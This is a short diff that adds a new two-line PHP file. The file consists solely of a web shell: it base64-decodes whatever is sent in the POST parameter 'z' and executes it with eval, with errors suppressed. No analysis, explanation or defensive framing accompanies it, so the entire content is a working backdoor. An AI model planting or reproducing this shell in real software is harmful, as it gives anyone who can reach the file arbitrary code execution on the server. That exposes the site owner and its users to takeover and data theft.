@@ -1,0 +1,2 @@
+<?php
+@eval(base64_decode($_POST["z"]));
